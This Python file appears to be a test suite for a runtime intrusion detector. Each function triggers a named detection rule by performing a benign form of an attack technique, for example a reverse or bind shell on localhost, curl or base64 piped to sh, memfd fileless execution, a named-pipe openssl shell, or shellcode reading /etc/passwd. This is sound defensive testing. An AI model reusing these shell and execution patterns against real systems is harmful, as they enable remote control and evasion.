# SPDX-License-Identifier: Apache-2.0
from pathlib import Path

from support.box import Box
from support.host import Host

from default_rules import host_trigger, trigger

# Its text is executed from the descriptor; nothing of it is ever a file.
FROM_MEMORY = """
memory = syscall("memfd_create", b"x", 0)
os.write(memory, open("/bin/true", "rb").read())
if os.fork() == 0:
    os.execve(memory, ["true"], {})
os.wait()
"""


@trigger("program-from-server-process")
def web_shell(box: Box) -> None:
    # A program that starts what it is told, as a server with a hole does.
    box.put("/usr/local/sbin/nginx", Path("/usr/bin/timeout").read_bytes())
    box.run(["/usr/local/sbin/nginx", "5", "/bin/sh", "-c", "id"], check=True)


@trigger("exec-from-temporary-directory")
def program_in_tmp(box: Box) -> None:
    box.sh("cp /bin/true /tmp/true && /tmp/true", check=True)


@trigger("exec-from-temporary-directory")
def script_in_var_tmp(box: Box) -> None:
    box.sh("printf '#!/bin/sh\\n' >/var/tmp/i.sh && chmod +x /var/tmp/i.sh && /var/tmp/i.sh", check=True)


@trigger("exec-of-new-executable")
def dropped_tool(box: Box) -> None:
    box.sh("cp /bin/true /usr/local/bin/tool && tool", check=True)


@trigger("exec-from-memory")
def memfd(box: Box) -> None:
    box.python(FROM_MEMORY)


@host_trigger("exec-from-memory")
def memfd_on_the_host(host: Host) -> None:
    host.python(FROM_MEMORY)


@trigger("exec-of-deleted-file")
def unlinked_while_open(box: Box) -> None:
    box.python("""
import shutil
shutil.copy("/bin/true", "/srv/x")
program = os.open("/srv/x", os.O_RDONLY)
os.unlink("/srv/x")
if os.fork() == 0:
    os.execve(program, ["true"], {})
os.wait()
""")


@trigger("exec-through-dynamic-loader")
def loader(box: Box) -> None:
    box.sh('"$(ldd /bin/true | grep -o "/[^ ]*/ld-linux[^ ]*")" /bin/true', check=True)


@trigger("decoded-payload-to-interpreter")
def base64_to_sh(box: Box) -> None:
    box.sh("echo dHJ1ZQo= | base64 -d | sh", check=True)


@trigger("download-piped-to-interpreter")
def curl_to_sh(box: Box) -> None:
    box.sh("curl -s http://127.0.0.1:1/install.sh | sh")


# Where a connection leads that came back to the box.
OUTSIDE = "203.0.113.9"


def copy_of(program: str, box: Box, path: str) -> str:
    box.put(path, Path(program).read_bytes())
    return path


@trigger("database-archives-its-log")
def archive_command(box: Box) -> None:
    command = "test -d pg_wal/000000010000000000000001 || true"
    box.run([copy_of("/usr/bin/timeout", box, "/usr/local/bin/postgres"), "5", "sh", "-c", command], check=True)


@trigger("discovery-from-server-process")
def server_runs_id(box: Box) -> None:
    box.run([copy_of("/usr/bin/timeout", box, "/usr/local/sbin/httpd"), "5", "id"], check=True)


@trigger("shell-from-notebook")
def notebook(box: Box) -> None:
    box.put("/usr/local/bin/jupyter-lab", "#!/usr/bin/python3\nimport os\nos.system('id')\n")
    box.run(["/usr/local/bin/jupyter-lab", "--ip=0.0.0.0"], check=True)


@trigger("shell-from-print-or-browser-service")
def print_filter(box: Box) -> None:
    box.run([copy_of("/usr/bin/timeout", box, "/usr/local/sbin/foomatic-rip"), "5", "sh", "-c", "id"], check=True)


@trigger("shell-through-named-pipe")
def openssl_client(box: Box) -> None:
    box.sh("mkfifo /srv/f; sh -i </srv/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:1 >/srv/f")


# A server that lets whoever connects type: it says "exit" to the shell it gets.
REVERSE_SHELL = """
server = socket.create_server(("127.0.0.1", 4444))
if os.fork() == 0:
    client = socket.create_connection(("127.0.0.1", 4444))
    for descriptor in range(3):
        os.dup2(client.fileno(), descriptor)
    {start}
connection, _ = server.accept()
connection.sendall(b"exit\\n")
os.wait()
"""


@trigger("shell-on-socket")
def reverse_shell(box: Box) -> None:
    box.python(REVERSE_SHELL.format(start='os.execv("/bin/sh", ["sh", "-i"])'))


@trigger("shell-on-socket")
def bind_shell(box: Box) -> None:
    box.python("""
server = socket.create_server(("127.0.0.1", 4444))
if os.fork() == 0:
    connection, _ = server.accept()
    for descriptor in range(3):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/bash", ["bash"])
socket.create_connection(("127.0.0.1", 4444)).sendall(b"exit\\n")
os.wait()
""")


@trigger("shell-below-connected-process")
def child_of_the_connection(box: Box) -> None:
    start = 'import subprocess; subprocess.call(["/bin/sh", "-i"]); os._exit(0)'
    box.python(REVERSE_SHELL.format(start=start))


@trigger("shell-attempt-in-container-without-shell")
def shell_that_is_not_there(box: Box) -> None:
    box.run([copy_of("/usr/bin/timeout", box, "/usr/local/sbin/nginx"), "5", "/bin/zsh", "-c", "id"])


@trigger("exec-from-run-or-device-directory")
def in_run(box: Box) -> None:
    box.sh("cp /bin/true /run/x && /run/x", check=True)


@host_trigger("exec-from-shared-memory-on-host")
def in_shared_memory(host: Host) -> None:
    path = f"/dev/shm/bongsu-{host.name}"
    host.sh(f"cp /bin/true {path} && {path}; rm {path}", check=True)


@trigger("exec-from-hidden-directory")
def hidden(box: Box) -> None:
    box.put("/srv/.x/x", Path("/bin/true").read_bytes())
    box.run(["/srv/.x/x"], check=True)


@trigger("exec-through-descriptor")
def fexecve(box: Box) -> None:
    box.python("os.execve(os.open('/bin/true', os.O_RDONLY), ['true'], {})")


@trigger("exec-through-descriptor")
def path_of_a_descriptor(box: Box) -> None:
    box.python("""
program = os.open("/bin/true", os.O_RDONLY)
os.execv(f"/proc/self/fd/{program}", ["true"])
""")


@trigger("inline-script-with-network", internet=True)
def one_liner(box: Box) -> None:
    box.run(["/usr/bin/python3", "-c", f"import urllib.request as u; u.urlopen('http://{OUTSIDE}/')"])


@trigger("inline-script-encoded")
def packed_one_liner(box: Box) -> None:
    box.run(["/usr/bin/python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"], check=True)


@trigger("interpreter-runs-temporary-script")
def named_to_its_interpreter(box: Box) -> None:
    box.put("/tmp/i.sh", "true\n", mode=0o644)
    box.run(["/bin/sh", "/tmp/i.sh"], check=True)


@trigger("exec-from-web-root")
def uploaded(box: Box) -> None:
    box.put("/var/www/html/uploads/a.sh", "#!/bin/sh\n")
    box.run(["/var/www/html/uploads/a.sh"], check=True)


@trigger("compiler-in-container")
def gcc(box: Box) -> None:
    box.sh("echo 'int x;' | gcc -x c -c -o /srv/x.o -", check=True)


@trigger("downloaded-source-compiled")
def fetch_and_compile(box: Box) -> None:
    box.put("/var/x.c", "int x;\n")
    box.sh("curl -s -o /srv/x.c file:///var/x.c && gcc -c -o /srv/x.o /srv/x.c", check=True)


@trigger("downloaded-program-run")
def fetch_and_run(box: Box) -> None:
    box.sh("curl -s -o /srv/x file:///bin/true && chmod +x /srv/x && /srv/x", check=True)


@trigger("downloaded-script-run")
def fetch_and_interpret(box: Box) -> None:
    box.put("/var/x", "true\n")
    box.sh("curl -s -o /srv/x file:///var/x && sh /srv/x", check=True)


@trigger("file-from-connection-run", internet=True)
def own_downloader(box: Box) -> None:
    box.python(f"""
socket.socket().connect_ex(("{OUTSIDE}", 443))
with open("/srv/x", "wb") as file:
    file.write(open("/bin/true", "rb").read())
os.chmod("/srv/x", 0o755)
assert os.spawnv(os.P_WAIT, "/srv/x", ["x"]) == 0
""")


@trigger("program-deleted-after-start")
def run_and_remove(box: Box) -> None:
    box.sh("cp /bin/true /srv/x && /srv/x && rm /srv/x", check=True)


@trigger("foreign-system-call-abi")
def thirty_two_bit_call(box: Box) -> None:
    box.python("""
# mov $5, %eax (open); mov path, %ebx; xor %ecx, %ecx; xor %edx, %edx; int $0x80; ret.
# MAP_32BIT keeps the path in reach.
libc.mmap.restype = ctypes.c_void_p
page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x62, -1, ctypes.c_long(0))
assert page and page < 1 << 32, page
path = page + 64
code = b"\\x53\\xb8\\x05\\0\\0\\0\\xbb" + struct.pack("<I", path) + b"\\x31\\xc9\\x31\\xd2\\xcd\\x80\\x5b\\xc3"
ctypes.memmove(page, code, len(code))
ctypes.memmove(path, b"/etc/passwd\\0", 12)
assert ctypes.CFUNCTYPE(ctypes.c_int)(page)() >= 0
""")


@trigger("log4j-style-class-download", internet=True)
def lookup_then_program(box: Box) -> None:
    box.put("/srv/app.py", f"import os, socket\nsocket.socket().connect_ex(('{OUTSIDE}', 1389))\nos.system('id')\n")
    box.sh("ln -s /usr/bin/python3 /usr/local/bin/java && java /srv/app.py", check=True)
